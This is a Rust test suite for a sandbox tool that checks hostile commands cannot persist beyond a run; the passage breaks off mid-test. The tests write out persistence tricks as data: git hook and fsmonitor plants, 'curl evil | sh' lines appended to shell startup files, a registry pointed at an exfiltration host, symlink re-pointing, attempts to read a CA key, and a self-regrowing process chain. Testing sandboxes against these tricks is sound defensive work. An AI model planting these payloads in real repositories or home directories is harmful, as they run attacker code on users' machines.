//! Nothing the sandbox leaves behind runs later or widens a later run
//! (SPEC §3.5, §4.5). Every case runs as root and as an ordinary user, with
//! a hostile command inside, and then checks the host: git run by the user
//! runs nothing, the next run is still sandboxed, no file outside changed.

use std::path::PathBuf;
use std::process::Command;

use airlock_tests::repos::{git_available, host, host_git_runs_nothing, sandboxed, show};
use airlock_tests::who::Who;
use airlock_tests::*;

fn base() -> PathBuf {
    std::env::var_os("AIRLOCK_TEST_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/var/tmp/airlock-escape"))
}

fn repo(who: Who) -> Fixture {
    airlock_tests::repos::repo(&base(), who)
}

const PLANT_GIT: &str = r#"
M="$MARKER"
git config core.fsmonitor "touch $M"; git config core.hooksPath "$PWD/evil-hooks"
git config alias.st "!touch $M"; git config core.pager "touch $M"
printf '#!/bin/sh\ntouch %s\n' "$M" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
printf '#!/bin/sh\ntouch %s\n' "$M" > .git/hooks/post-checkout
mkdir -p evil-hooks; printf '#!/bin/sh\ntouch %s\n' "$M" > evil-hooks/pre-commit; chmod +x evil-hooks/pre-commit
echo "gitdir: evil" > .git/commondir
printf '[core]\n\tfsmonitor = touch %s\n' "$M" > .git/config.worktree
mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes
"#;

#[test]
fn a_renamed_git_directory_carries_no_protection_away() {
    if !git_available() {
        eprintln!("skipped: git is not installed");
        return;
    }
    for who in Who::all() {
        let f = repo(who);
        let marker = f.home.join("PWNED");
        let config_before = std::fs::read(f.ws.join(".git/config")).unwrap();
        let script = format!(
            "export MARKER={m}
             git -c user.email=t@t -c user.name=t commit -q --allow-empty -m inside && echo commit-inside-ok
             mv .git .git-orig && cp -a .git-orig .git; echo mv=$?
             mv .git/hooks .git/hooks-old; rm -rf .git/hooks; mv .git/info x 2>/dev/null
             ln -sfn /tmp .git/hooks 2>/dev/null
             {PLANT_GIT}",
            m = marker.display()
        );
        let out = sandboxed(&f, who, &["--network", "none"], &script);
        assert!(
            out.stdout.contains("commit-inside-ok"),
            "{who:?}: {}",
            show(&out)
        );
        assert!(!f.ws.join(".git-orig").exists(), "{who:?}: {}", show(&out));
        assert_eq!(
            std::fs::read(f.ws.join(".git/config")).unwrap(),
            config_before,
            "{who:?}"
        );
        assert!(
            !f.ws.join(".git/hooks/pre-commit").exists(),
            "{who:?}: {}",
            show(&out)
        );
        assert!(
            !f.ws.join(".git/commondir").exists(),
            "{who:?}: {}",
            show(&out)
        );
        assert!(
            !f.ws.join(".git/config.worktree").exists(),
            "{who:?}: {}",
            show(&out)
        );
        host_git_runs_nothing(&f, who, &f.ws, &marker);
        // The commit made inside is there.
        let log = host(&f, who, &f.ws, "git", &["log", "--format=%s"]);
        assert!(log.stdout.contains("inside"), "{who:?}: {}", show(&log));
    }
}

#[test]
fn a_repository_created_inside_runs_nothing_later() {
    if !git_available() {
        eprintln!("skipped: git is not installed");
        return;
    }
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        let marker = f.home.join("PWNED");
        // At the workspace root (no repository yet) and in a subdirectory.
        let script = format!(
            "export MARKER={m}
             git init -q . && git -c user.email=t@t -c user.name=t commit -q --allow-empty -m root-commit && echo root-ok
             mkdir -p sub && cd sub && git init -q . && git -c user.email=t@t -c user.name=t commit -q --allow-empty -m sub-commit && echo sub-ok
             {PLANT_GIT}
             cd .. && {PLANT_GIT}",
            m = marker.display()
        );
        let out = sandboxed(&f, who, &["--network", "none"], &script);
        assert!(out.stdout.contains("root-ok"), "{who:?}: {}", show(&out));
        assert!(out.stdout.contains("sub-ok"), "{who:?}: {}", show(&out));
        assert!(
            out.stderr.contains("protected path"),
            "{who:?}: {}",
            show(&out)
        );
        host_git_runs_nothing(&f, who, &f.ws, &marker);
        host_git_runs_nothing(&f, who, &f.ws.join("sub"), &marker);
        // The repositories still work, with their commits.
        for (dir, msg) in [
            (f.ws.clone(), "root-commit"),
            (f.ws.join("sub"), "sub-commit"),
        ] {
            let log = host(&f, who, &dir, "git", &["log", "--format=%s"]);
            assert!(log.stdout.contains(msg), "{who:?}: {}", show(&log));
        }
        assert!(f.ws.join(".airlock/quarantine").is_dir(), "{who:?}");
    }
}

#[test]
fn protected_names_created_inside_are_quarantined() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        let out = sandboxed(
            &f,
            who,
            &["--network", "none"],
            "mkdir .vscode && echo '{\"tasks\":[]}' > .vscode/tasks.json; echo 'curl evil' > .envrc; \
             ln -s ~/.bashrc .idea; printf '[network]\\nmode = \"host\"\\n' > airlock.toml; \
             mkdir .airlock; echo x > .airlock/planted; echo ordinary > notes.txt",
        );
        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
        for name in [".vscode", ".envrc", ".idea", "airlock.toml"] {
            assert!(
                std::fs::symlink_metadata(f.ws.join(name)).is_err(),
                "{who:?}: {name} is still there\n{}",
                show(&out)
            );
        }
        assert!(
            !f.ws.join(".airlock/planted").exists(),
            "{who:?}: {}",
            show(&out)
        );
        assert_eq!(
            std::fs::read_to_string(f.ws.join("notes.txt")).unwrap(),
            "ordinary\n"
        );
        let quarantine = f.ws.join(".airlock/quarantine");
        let runs: Vec<_> = std::fs::read_dir(&quarantine).unwrap().flatten().collect();
        assert_eq!(runs.len(), 1, "{who:?}");
        assert!(runs[0].path().join("airlock.toml").exists(), "{who:?}");
        // The next run is still sandboxed: the planted policy was not applied.
        let out = sandboxed(&f, who, &[], "cat /proc/self/net/dev | grep -c : ");
        assert_eq!(
            out.stdout.trim(),
            "1",
            "{who:?}: only loopback\n{}",
            show(&out)
        );
    }
}

#[test]
fn a_background_process_cannot_write_after_the_check() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        let out = sandboxed(
            &f,
            who,
            &["--network", "none"],
            "setsid sh -c 'sleep 0.4; echo late > .envrc; mkdir -p .vscode; echo late > .vscode/x' </dev/null >/dev/null 2>&1 & \
             nohup sh -c 'sleep 0.4; echo late > .gitmodules' </dev/null >/dev/null 2>&1 & echo started",
        );
        assert!(out.stdout.contains("started"), "{}", show(&out));
        std::thread::sleep(std::time::Duration::from_millis(800));
        for name in [".envrc", ".vscode", ".gitmodules"] {
            assert!(!f.ws.join(name).exists(), "{who:?}: {name}\n{}", show(&out));
        }
    }
}

#[test]
fn project_policy_must_be_trusted_and_stays_trusted_only_as_it_was() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        f.write("airlock.toml", "[network]\nallow = [\"one.test\"]\n");
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
        }
        let out = sandboxed(&f, who, &["--network", "none"], "echo ran");
        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
        assert!(!out.stdout.contains("ran"));
        assert!(
            out.stderr.contains("untrusted project configuration"),
            "{}",
            show(&out)
        );
        assert!(
            out.stderr.contains("allows hosts: one.test"),
            "{}",
            show(&out)
        );
        assert!(
            out.stderr.contains("airlock policy trust"),
            "{}",
            show(&out)
        );

        let trust = host(
            &f,
            who,
            &f.ws,
            &airlock_bin().display().to_string(),
            &["policy", "trust"],
        );
        assert_eq!(trust.code, 0, "{who:?}: {}", show(&trust));
        let out = sandboxed(
            &f,
            who,
            &["--network", "none"],
            "echo ran; echo 'allow = [\"evil.test\"]' >> airlock.toml; true",
        );
        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
        assert!(out.stdout.contains("ran"));
        assert_eq!(
            std::fs::read_to_string(f.ws.join("airlock.toml")).unwrap(),
            "[network]\nallow = [\"one.test\"]\n",
            "{who:?}: the sandbox edited the project policy"
        );
        // Changed by any other means since it was trusted: refused, with the change.
        f.write(
            "airlock.toml",
            "[network]\nmode = \"host\"\n[env]\npass = [\"SECRET_TOKEN\"]\n[filesystem]\nwrite = [\"/\"]\n",
        );
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
        }
        let mut cmd = f.command(&[], "echo ran; echo token=$SECRET_TOKEN");
        cmd.env("SECRET_TOKEN", "hunter2");
        let out = run(&mut who.wrap(cmd));
        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
        assert!(!out.stdout.contains("hunter2"));
        assert!(
            out.stderr.contains("CHANGED since it was trusted"),
            "{}",
            show(&out)
        );
        assert!(out.stderr.contains("network mode = host"), "{}", show(&out));
        assert!(out.stderr.contains("SECRET_TOKEN"), "{}", show(&out));
        assert!(out.stderr.contains("makes writable: /"), "{}", show(&out));
    }
}

#[test]
fn policy_files_and_tool_configs_in_the_workspace_need_trust() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        f.write("ci.toml", "[network]\nmode = \"host\"\n");
        f.write(".npmrc", "registry=https://exfil.test/\n");
        f.write("~/outside.toml", "[network]\nallow = [\"fine.test\"]\n");
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
            airlock_tests::who::chown(&f.home);
        }
        let out = sandboxed(
            &f,
            who,
            &["--policy", "ci.toml", "--network", "none"],
            "echo ran",
        );
        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
        assert!(out.stderr.contains("ci.toml"), "{}", show(&out));
        // What a file grants is all named when it asks for trust, a host
        // socket above all (red team round 14: "no widening found").
        f.write(
            "team.toml",
            "[filesystem]\nunix_sockets = [\"/run/docker.sock\"]\n[limits]\npids = 100000\n",
        );
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
        }
        let out = sandboxed(
            &f,
            who,
            &["--policy", "team.toml", "--network", "none"],
            "echo ran",
        );
        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
        assert!(
            out.stderr
                .contains("makes host sockets connectable from inside: /run/docker.sock")
                && out.stderr.contains("sets limits: pids 100000")
                && !out.stderr.contains("no widening found"),
            "{who:?}: {}",
            show(&out)
        );
        let out = sandboxed(
            &f,
            who,
            &["--preset", "npm", "--network", "none"],
            "echo ran",
        );
        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
        assert!(
            out.stderr.contains("allows host exfil.test"),
            "{}",
            show(&out)
        );
        // A policy file outside every writable root is trusted as given.
        let outside = f.home.join("outside.toml");
        let out = sandboxed(
            &f,
            who,
            &["--policy", outside.to_str().unwrap(), "--network", "none"],
            "echo ran",
        );
        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
        // `--write` makes a directory a writable root: its files need trust too.
        let out = sandboxed(
            &f,
            who,
            &[
                "--write",
                f.home.to_str().unwrap(),
                "--policy",
                outside.to_str().unwrap(),
                "--network",
                "none",
            ],
            "echo ran",
        );
        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
    }
}

#[test]
fn preset_probes_never_run_workspace_code() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        let marker = f.home.join("PWNED");
        let payload = format!(
            "open({m:?}, 'w').write('x')\n",
            m = marker.display().to_string()
        );
        for module in [
            "pip/__init__.py",
            "pip/_internal/__init__.py",
            "sitecustomize.py",
            "usercustomize.py",
        ] {
            f.write(module, &payload);
        }
        // A planted interpreter and npm on a PATH entry inside the workspace.
        let bin = f.write(
            "bin/python3",
            &format!(
                "#!/bin/sh\ntouch {}\necho https://evil.test/\n",
                marker.display()
            ),
        );
        f.write(
            "bin/npm",
            &format!(
                "#!/bin/sh\ntouch {}\necho https://evil.test/\n",
                marker.display()
            ),
        );
        for p in ["bin/python3", "bin/npm"] {
            let _ = Command::new("chmod").arg("+x").arg(f.ws.join(p)).status();
        }
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
        }
        let path = format!(
            "{}:{}",
            bin.parent().unwrap().display(),
            std::env::var("PATH").unwrap_or_default()
        );
        let a = airlock_bin().display().to_string();
        for args in [
            &["policy", "presets"][..],
            &[
                "policy",
                "explain",
                "--preset",
                "pypi",
                "--preset",
                "npm",
                "example.test",
            ],
        ] {
            let mut c = who.host(&f, &f.ws, &a, args);
            c.env("PATH", &path);
            let out = run(&mut c);
            assert!(
                !out.stdout.contains("evil.test"),
                "{who:?} {args:?}: {}",
                show(&out)
            );
        }
        let mut c = f.command(
            &["--preset", "pypi", "--preset", "npm", "--network", "none"],
            "true",
        );
        c.env("PATH", &path);
        let _ = run(&mut who.wrap(c));
        assert!(
            !marker.exists(),
            "{who:?}: a preset probe ran workspace code on the host"
        );
    }
}

#[test]
fn deny_read_holds_after_its_parent_is_renamed() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        f.write("config/credentials.json", "CREDENTIAL-SECRET");
        f.write("config/settings.json", "{}");
        let policy = f.write(
            "~/deny.toml",
            "[filesystem]\ndeny_read = [\"config/credentials.json\"]\n",
        );
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
            airlock_tests::who::chown(&f.home);
        }
        let p = policy.to_str().unwrap();
        let out = sandboxed(
            &f,
            who,
            &["--policy", p, "--network", "none"],
            "mv config config-moved; mv config/credentials.json c2; cp -r config c3; ln config/credentials.json c4; \
             cat config/settings.json && echo settings-readable; echo edit >> config/settings.json && echo settings-writable",
        );
        assert!(
            out.stdout.contains("settings-readable"),
            "{who:?}: {}",
            show(&out)
        );
        assert!(
            out.stdout.contains("settings-writable"),
            "{who:?}: {}",
            show(&out)
        );
        assert!(
            f.ws.join("config/credentials.json").exists(),
            "{who:?}: {}",
            show(&out)
        );
        let out = sandboxed(
            &f,
            who,
            &["--policy", p, "--network", "none"],
            "cat config-moved/credentials.json c2 c3/credentials.json c4 config/credentials.json 2>&1; echo done",
        );
        assert!(out.stdout.contains("done"), "{}", show(&out));
        assert!(
            !out.stdout.contains("CREDENTIAL-SECRET"),
            "{who:?}: {}",
            show(&out)
        );
    }
}

#[test]
fn a_ca_created_during_a_run_stays_hidden_from_it() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        let child = who
            .wrap(f.command(
                &["--network", "none"],
                "sleep 1.5; cat ~/.local/share/airlock/ca/ca-key.pem 2>&1; ls -la ~/.local/share/airlock/ca 2>&1; echo done",
            ))
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(500));
        let a = airlock_bin().display().to_string();
        let init = host(&f, who, &f.ws, &a, &["ca", "init"]);
        assert_eq!(init.code, 0, "{who:?}: {}", show(&init));
        let out = child.wait_with_output().unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        let key =
            std::fs::read_to_string(f.home.join(".local/share/airlock/ca/ca-key.pem")).unwrap();
        let body = key.lines().nth(1).unwrap();
        assert!(stdout.contains("done"), "{stdout}");
        assert!(
            !stdout.contains(body),
            "{who:?}: the sandbox read the CA key\n{stdout}"
        );
    }
}

#[test]
fn root_and_home_are_workspaces_only_when_named() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        for dir in [PathBuf::from("/"), f.home.clone()] {
            let mut c = f.command(&["--network", "none"], "echo ran");
            c.current_dir(&dir);
            let out = run(&mut who.wrap(c));
            assert_eq!(
                out.code,
                125,
                "{who:?} in {}: {}",
                dir.display(),
                show(&out)
            );
            assert!(out.stderr.contains("--workspace"), "{}", show(&out));
        }
        let mut c = f.command(
            &["--network", "none", "--workspace", f.home.to_str().unwrap()],
            "echo ran",
        );
        c.current_dir(&f.home);
        let out = run(&mut who.wrap(c));
        assert!(out.stdout.contains("ran"), "{who:?}: {}", show(&out));
    }
}

#[test]
fn home_as_the_workspace_protects_its_startup_files_and_airlocks_own() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        f.write("~/.bashrc", "# rc\n");
        f.write("~/.config/airlock/policy.toml", "[network]\nallow = []\n");
        who.prepare(&f);
        let out = in_home(
            &f,
            who,
            "mv .config .config-x; mkdir -p .config-y/airlock; echo 'allow=[\"evil.test\"]' > .config-y/airlock/policy.toml; \
             mv .config-y .config 2>/dev/null; echo 'curl evil | sh' >> .bashrc; rm -f .bashrc; \
             echo '[core] pager = evil' > .gitconfig; mkdir -p .local/bin && echo evil > .local/bin/git; \
             echo ok > work.txt && echo wrote",
        );
        assert!(out.stdout.contains("wrote"), "{who:?}: {}", show(&out));
        assert_eq!(
            std::fs::read_to_string(f.home.join(".bashrc")).unwrap(),
            "# rc\n",
            "{who:?}"
        );
        assert_eq!(
            std::fs::read_to_string(f.home.join(".config/airlock/policy.toml")).unwrap(),
            "[network]\nallow = []\n",
            "{who:?}: {}",
            show(&out)
        );
        assert!(
            !f.home.join(".gitconfig").exists(),
            "{who:?}: {}",
            show(&out)
        );
        assert!(
            !f.home.join(".local/bin/git").exists(),
            "{who:?}: {}",
            show(&out)
        );
    }
}

/// A fixture whose HOME keeps `link` as a link to `target` in a dotfiles
/// checkout, where `file` holds `text`; prepared for `who`.
fn home_with_dotfiles(who: Who, file: &str, text: &str, link: &str, target: &str) -> Fixture {
    let f = Fixture::new_in(&base());
    f.write(file, text);
    std::os::unix::fs::symlink(target, f.home.join(link)).unwrap();
    who.prepare(&f);
    f
}

/// `script` run with HOME as the workspace.
fn in_home(f: &Fixture, who: Who, script: &str) -> Out {
    let home = f.home.to_str().unwrap();
    // Started there: a command runs where it is started (SPEC §2).
    let mut c = f.command(&["--network", "none", "--workspace", home], script);
    c.current_dir(&f.home);
    run(&mut who.wrap(c))
}

#[test]
fn a_replaced_symlinked_startup_file_is_restored() {
    for who in Who::all() {
        let f = home_with_dotfiles(
            who,
            "~/dotfiles/zshrc",
            "# managed by dotfiles\n",
            ".zshrc",
            "dotfiles/zshrc",
        );
        let out = in_home(
            &f,
            who,
            "echo 'evil' >> .zshrc; rm -f .zshrc && printf 'curl evil | sh\\n' > .zshrc; echo ok > work.txt && echo wrote",
        );
        assert!(out.stdout.contains("wrote"), "{who:?}: {}", show(&out));
        let link = std::fs::read_link(f.home.join(".zshrc"));
        assert_eq!(
            link.ok(),
            Some(PathBuf::from("dotfiles/zshrc")),
            "{who:?}: {}",
            show(&out)
        );
        assert_eq!(
            std::fs::read_to_string(f.home.join("dotfiles/zshrc")).unwrap(),
            "# managed by dotfiles\n",
            "{who:?}"
        );
        assert!(out.stderr.contains(".zshrc"), "{who:?}: {}", show(&out));
    }
}

/// A protected path whose parent does not exist yet (`~/.cargo`), reached
/// after the run through a link the sandbox made in its place, or through
/// a link the user keeps (`~/.config` into a dotfiles checkout) that the
/// sandbox re-points: the link goes to quarantine, the host sees nothing
/// of what it led to.
#[test]
fn a_protected_path_reached_through_a_new_or_repointed_link_is_quarantined() {
    for who in Who::all() {
        let f = home_with_dotfiles(
            who,
            "~/dotfiles/config/fish/config.fish",
            "# managed\n",
            ".config",
            "dotfiles/config",
        );
        let out = in_home(
            &f,
            who,
            "echo ok > work.txt && echo wrote; \
             mkdir -p x/bin && echo '[build]' > x/config.toml && echo evil > x/bin/git && ln -s x .cargo; \
             mkdir -p y/fish && echo evil > y/fish/config.fish && rm .config && ln -s y .config",
        );
        let ctx = format!("{who:?}: {}", show(&out));
        // (Re-pointing ~/.config also puts links at its deny_read names:
        // the watch may stop the run there, which is fine.)
        assert!(out.stdout.contains("wrote"), "{ctx}");
        for planted in [".cargo/config.toml", ".cargo/bin/git"] {
            assert!(!f.home.join(planted).exists(), "{planted}: {ctx}");
        }
        assert_eq!(
            std::fs::read_to_string(f.home.join(".config/fish/config.fish")).ok(),
            Some("# managed\n".to_string()),
            "{ctx}"
        );
        assert!(out.stderr.contains("quarantine"), "{ctx}");
        // The legitimate write stays.
        assert!(f.home.join("work.txt").exists(), "{ctx}");
    }
}

/// `script` run in the degraded tier (forced), without network, with `args`;
/// its output and the context to show when an assertion fails.
fn degraded(f: &Fixture, who: Who, args: &[&str], script: &str) -> (Out, String) {
    let mut all = vec!["--allow-degraded", "--network", "none"];
    all.extend_from_slice(args);
    let mut cmd = f.command(&all, script);
    cmd.env("AIRLOCK_FORCE_TIER", "degraded");
    let out = run(&mut who.wrap(cmd));
    let ctx = format!("{who:?}: {}", show(&out));
    (out, ctx)
}

/// Where no mount pins a writable root (the degraded tier), the sandbox can
/// move one away and put a link to it in its place: what it planted below
/// would then be reached through the link, which the check does not
/// follow. The link goes to quarantine and the run fails.
#[test]
fn a_writable_root_replaced_by_a_link_is_quarantined() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        std::fs::create_dir_all(f.ws.join("sub")).unwrap();
        who.prepare(&f);
        let (out, ctx) = degraded(
            &f,
            who,
            &["--write", "sub"],
            "echo wrote; mv sub sub.x && echo 'echo evil' > sub.x/.envrc && ln -s sub.x sub",
        );
        assert!(out.stdout.contains("wrote"), "{ctx}");
        assert!(!f.ws.join("sub/.envrc").exists(), "{ctx}");
        assert!(out.stderr.contains("was replaced during the run"), "{ctx}");
        assert_eq!(out.code, 125, "{ctx}");
    }
}

/// A chain of processes that regrows its tail as its head is killed
/// (each member forks a new child when it has none), detached from a
/// command that exits at once, planting `.envrc` later. The degraded tier
/// has no PID namespace to end with its init: the init kills the whole
/// tree at once, so nothing of it is left to plant after the check.
const REGROWING_CHAIN: &str = r#"
import mmap, os, struct, sys, time
life, plant, cap = float(sys.argv[1]), float(sys.argv[2]), 24
s = mmap.mmap(-1, 64)
start = time.monotonic()
def get(i): return struct.unpack_from("q", s, i * 8)[0]
def add(i, d): struct.pack_into("q", s, i * 8, get(i) + d)
add(0, 1)  # born
if os.fork() != 0:
    print("command exits", flush=True)
    os._exit(0)
while True:
    orig, counted, child = os.getppid(), False, False
    while True:
        t = time.monotonic() - start
        if t > life:
            os._exit(0)
        if not counted and os.getppid() != orig:
            counted = True
            add(1, 1)  # dead
        if not child and get(0) - get(1) < cap:
            pid = os.fork()
            if pid == 0:
                add(0, 1)
                break  # become the new member
            child = True
        if t > plant and get(2) == 0:
            add(2, 1)
            with open("evil.tmp", "w") as f:
                f.write("echo pwned\n")
            os.rename("evil.tmp", ".envrc")
        time.sleep(0.0002)
"#;

#[test]
fn a_regrowing_process_chain_dies_with_the_degraded_run() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        f.write("chain.py", REGROWING_CHAIN);
        who.prepare(&f);
        let started = std::time::Instant::now();
        let (out, ctx) = degraded(&f, who, &["--timeout", "2s"], "python3 chain.py 6 4");
        assert!(out.stdout.contains("command exits"), "{ctx}");
        // Past the chain's planting time and its life.
        std::thread::sleep(std::time::Duration::from_secs(7).saturating_sub(started.elapsed()));
        let planted = Command::new("find")
            .arg(&f.ws)
            .args(["-name", ".envrc"])
            .output()
            .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
            .unwrap_or_default();
        assert!(planted.trim().is_empty(), "planted: {planted}: {ctx}");
        assert_eq!(out.code, 0, "{ctx}");
    }
}

/// A directory the sandbox makes look like a bare repository (`HEAD`,
/// `objects`, `refs`) is judged as one, and the repositories below it still
/// are too.
#[test]
fn repositories_below_a_bare_looking_directory_are_judged() {
    if !git_available() {
        return;
    }
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        std::fs::create_dir_all(f.ws.join("a")).unwrap();
        who.prepare(&f);
        let out = host(&f, who, &f.ws.join("a"), "git", &["init", "-q", "sub"]);
        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
        let out = sandboxed(
            &f,
            who,
            &["--network", "none"],
            "mkdir -p a/objects a/refs && touch a/HEAD && \
             printf '#!/bin/sh\necho hook\n' > a/sub/.git/hooks/pre-commit && \
             chmod +x a/sub/.git/hooks/pre-commit && echo planted",
        );
        let ctx = format!("{who:?}: {}", show(&out));
        assert!(out.stdout.contains("planted"), "{ctx}");
        assert!(!f.ws.join("a/sub/.git/hooks/pre-commit").exists(), "{ctx}");
    }
}

/// A startup file kept as a link into a dotfiles checkout (written
/// through), and a tool's configuration where XDG_CONFIG_HOME puts it: both
/// are in the protected set.
#[test]
fn linked_startup_files_and_xdg_config_are_protected() {
    for who in Who::all() {
        let f = home_with_dotfiles(
            who,
            "~/dotfiles/gitconfig",
            "[user]\n\tname = me\n",
            ".gitconfig",
            "dotfiles/gitconfig",
        );
        std::fs::create_dir_all(f.home.join("xdg")).unwrap();
        who.prepare(&f);
        let home = f.home.to_str().unwrap();
        let mut cmd = f.command(
            &["--network", "none", "--workspace", home],
            "echo ok > work.txt && echo wrote; \
             printf '[core]\n\tfsmonitor = evil\n' >> .gitconfig; \
             mkdir -p xdg/direnv && echo evil > xdg/direnv/direnvrc",
        );
        cmd.env("XDG_CONFIG_HOME", f.home.join("xdg"))
            .current_dir(&f.home);
        let out = run(&mut who.wrap(cmd));
        let ctx = format!("{who:?}: {}", show(&out));
        assert!(out.stdout.contains("wrote"), "{ctx}");
        assert_eq!(
            std::fs::read_to_string(f.home.join("dotfiles/gitconfig")).ok(),
            Some("[user]\n\tname = me\n".to_string()),
            "{ctx}"
        );
        assert!(!f.home.join("xdg/direnv/direnvrc").exists(), "{ctx}");
    }
}

/// A link behind a link the user keeps (`~/.config -> dotfiles/config`,
/// `dotfiles -> dots/real`), re-pointed by the sandbox to a tree of its own:
/// the host's `~/.config/git/config` is still the user's.
#[test]
fn a_link_behind_a_kept_link_cannot_be_repointed() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        f.write("~/dots/real/config/git/config", "[user]\n\tname = me\n");
        std::os::unix::fs::symlink("dots/real", f.home.join("dotfiles")).unwrap();
        std::os::unix::fs::symlink("dotfiles/config", f.home.join(".config")).unwrap();
        who.prepare(&f);
        let out = in_home(
            &f,
            who,
            "echo ok > work.txt && echo wrote; rm dotfiles && mkdir -p evil/config/git && \
             printf '[core]\n\tfsmonitor = evil\n' > evil/config/git/config && ln -s evil dotfiles",
        );
        let ctx = format!("{who:?}: {}", show(&out));
        assert!(out.stdout.contains("wrote"), "{ctx}");
        assert_eq!(
            std::fs::read_to_string(f.home.join(".config/git/config")).ok(),
            Some("[user]\n\tname = me\n".to_string()),
            "{ctx}"
        );
    }
}

/// A change the check cannot move aside (its directory made unwritable)
/// fails the run instead of passing for clean.
#[test]
fn a_change_that_cannot_be_moved_aside_fails_the_run() {
    for who in Who::all() {
        if who == Who::Me && unsafe { libc::geteuid() } == 0 {
            // Root moves it regardless of the mode.
            continue;
        }
        let f = Fixture::new_in(&base());
        who.prepare(&f);
        let out = sandboxed(
            &f,
            who,
            &["--network", "none"],
            "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && chmod 0555 . && echo planted",
        );
        let _ = std::process::Command::new("chmod")
            .arg("0755")
            .arg(&f.ws)
            .status();
        let ctx = format!("{who:?}: {}", show(&out));
        assert!(out.stdout.contains("planted"), "{ctx}");
        assert_eq!(out.code, 125, "{ctx}");
        assert!(out.stderr.contains("still in place"), "{ctx}");
    }
}

/// A hostile command plants, then waits for the user's ^C, the terminal
/// closing, or the harness's kill: the check still runs, now or at the
/// next run.
#[test]
fn killing_airlock_does_not_skip_the_check() {
    for who in Who::all() {
        for signal in ["TERM", "HUP", "INT", "KILL"] {
            let f = Fixture::new_in(&base());
            who.prepare(&f);
            let child = who
                .wrap(f.command(
                    &["--network", "none"],
                    "echo 'curl evil | sh' > .envrc; mkdir -p .vscode; echo '{}' > .vscode/tasks.json; echo planted; sleep 30",
                ))
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            let pid = child.id();
            // Wait until the plant is there.
            let t = std::time::Instant::now();
            while !f.ws.join(".vscode/tasks.json").exists() && t.elapsed().as_secs() < 10 {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            // Signal airlock itself (under setpriv it is the exec'd process).
            let _ = Command::new("kill")
                .args([&format!("-{signal}"), &pid.to_string()])
                .status();
            let out = child.wait_with_output().unwrap();
            let stderr = String::from_utf8_lossy(&out.stderr).to_string();
            if signal == "KILL" {
                // The next run finishes the check first.
                let t = std::time::Instant::now();
                while process_running("sleep 30") && t.elapsed().as_secs() < 5 {
                    std::thread::sleep(std::time::Duration::from_millis(20));
                }
                let next = sandboxed(&f, who, &["--network", "none"], "echo next");
                assert!(
                    next.stderr.contains("finishing the post-run check"),
                    "{who:?} {signal}: {}",
                    show(&next)
                );
            } else {
                assert!(
                    stderr.contains("stopped by signal"),
                    "{who:?} {signal}: {stderr}"
                );
            }
            assert!(!f.ws.join(".envrc").exists(), "{who:?} {signal}: {stderr}");
            assert!(!f.ws.join(".vscode").exists(), "{who:?} {signal}: {stderr}");
        }
    }
}

/// A harness's SIGINT or SIGTERM to airlock reaches the command first, as
/// it would outside: its handler runs and its exit status is the run's;
/// one that ignores it is killed after a grace period.
#[test]
fn a_signal_to_airlock_is_passed_on_to_the_command() {
    for who in Who::all() {
        for signal in ["INT", "TERM"] {
            let f = Fixture::new_in(&base());
            who.prepare(&f);
            let child = who
                .wrap(f.command(
                    &["--network", "none"],
                    &format!("trap 'echo cleaned > done.txt; exit 3' {signal}; echo ready > ready.txt; sleep 30 & wait"),
                ))
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            let t = std::time::Instant::now();
            while !f.ws.join("ready.txt").exists() && t.elapsed().as_secs() < 10 {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            let _ = Command::new("kill")
                .args([&format!("-{signal}"), &child.id().to_string()])
                .status();
            let out = child.wait_with_output().unwrap();
            let stderr = String::from_utf8_lossy(&out.stderr).to_string();
            assert_eq!(out.status.code(), Some(3), "{who:?} {signal}: {stderr}");
            assert_eq!(
                std::fs::read_to_string(f.ws.join("done.txt"))
                    .ok()
                    .as_deref(),
                Some("cleaned\n"),
                "{who:?} {signal}: {stderr}"
            );
            assert!(
                stderr.contains("passed on to the command"),
                "{who:?} {signal}: {stderr}"
            );
        }
        // One that ignores it is killed once the grace period is over.
        let f = Fixture::new_in(&base());
